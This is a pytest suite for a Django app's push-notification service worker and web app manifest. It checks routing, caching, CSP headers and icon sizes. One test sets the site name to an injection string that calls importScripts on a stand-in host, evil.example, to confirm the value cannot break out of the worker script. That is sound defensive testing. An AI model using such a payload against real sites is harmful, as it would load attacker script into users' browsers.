from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import urljoin

import pytest
from django.conf import LazySettings
from django.contrib.staticfiles import finders
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse

from notifications.devices import app_files
from notifications.vapid.keys import VapidKey
from tests.push.moved_desk import the_desk_at


def worker(client: Client, **headers: str) -> HttpResponse:
    return client.get(reverse("notifications:worker"), headers=headers)  # type: ignore[return-value]


def test_the_worker_lives_where_its_scope_begins(client: Client, settings: LazySettings) -> None:
    assert reverse("notifications:worker") == f"{reverse('admin:index')}sw.js" == f"/{settings.ADMIN_URL}sw.js"


def test_the_worker_is_javascript_for_everybody(client: Client, site_key: VapidKey) -> None:
    response = worker(client)
    assert (response.status_code, response["Content-Type"]) == (200, "text/javascript; charset=utf-8")


def test_no_cache_keeps_an_old_worker(client: Client, site_key: VapidKey) -> None:
    assert worker(client)["Cache-Control"] == "no-cache"


def test_a_worker_that_has_not_changed_is_not_sent_again(client: Client, site_key: VapidKey) -> None:
    again = worker(client, **{"if-none-match": worker(client)["ETag"]})
    assert (again.status_code, again.content) == (304, b"")


def test_a_new_key_makes_a_new_worker(client: Client, site_key: VapidKey, settings: LazySettings) -> None:
    before = worker(client)["ETag"]
    settings.VAPID_PRIVATE_KEY = VapidKey.new().private_text
    assert worker(client)["ETag"] != before


def test_the_worker_may_load_and_run_only_what_is_ours(client: Client, site_key: VapidKey) -> None:
    policy = worker(client)["Content-Security-Policy"]
    assert {"default-src 'none'", "script-src 'self'", "connect-src 'self'"} <= set(policy.split("; "))


def test_the_worker_needs_no_static_files(client: Client, settings: LazySettings) -> None:
    assert Path(app_files.__file__).parent == app_files.WORKER_PATH.parent
    settings.STATICFILES_DIRS = []
    assert worker(client).status_code == 200


def test_a_site_name_can_not_break_out_of_the_worker(client: Client, settings: LazySettings) -> None:
    settings.SITE_NAME = '"; importScripts("https://evil.example/"); //\n\u2028'
    text = worker(client).content.decode()
    facts, _ = json.JSONDecoder().raw_decode(text.removeprefix("const SETTINGS = "))
    assert facts["siteName"] == settings.SITE_NAME


@pytest.fixture
def manifest(client: Client) -> dict[str, object]:
    response = client.get(reverse("notifications:manifest"))
    assert response["Content-Type"] == "application/manifest+json"
    facts: dict[str, object] = response.json()
    return facts


def test_the_app_opens_in_a_window_of_its_own(manifest: dict[str, object]) -> None:
    assert manifest["display"] == "standalone"


def test_the_app_covers_the_pages_that_a_click_leads_to(manifest: dict[str, object]) -> None:
    landing = reverse("notifications:landing", args=[1])
    assert urljoin("https://a.example", landing).startswith(urljoin("https://a.example", str(manifest["scope"])))
    assert str(manifest["start_url"]).startswith(str(manifest["scope"]))


def test_the_app_is_the_same_wherever_the_desk_is(manifest: dict[str, object], settings: LazySettings) -> None:
    with the_desk_at("desk/", settings):
        moved = Client().get(reverse("notifications:manifest")).json()
    assert (manifest["start_url"], moved["start_url"]) == ("/admin/", "/desk/")
    assert moved["id"] == manifest["id"] == "/admin/"


def test_the_icons_are_png_of_the_size_they_say(manifest: dict[str, object], settings: LazySettings) -> None:
    for icon in manifest["icons"]:  # type: ignore[attr-defined]
        data = Path(str(finders.find(icon["src"].removeprefix(settings.STATIC_URL)))).read_bytes()
        width, height = (int.from_bytes(data[at : at + 4], "big") for at in (16, 20))
        assert (data[:8], f"{width}x{height}") == (b"\x89PNG\r\n\x1a\n", icon["sizes"])
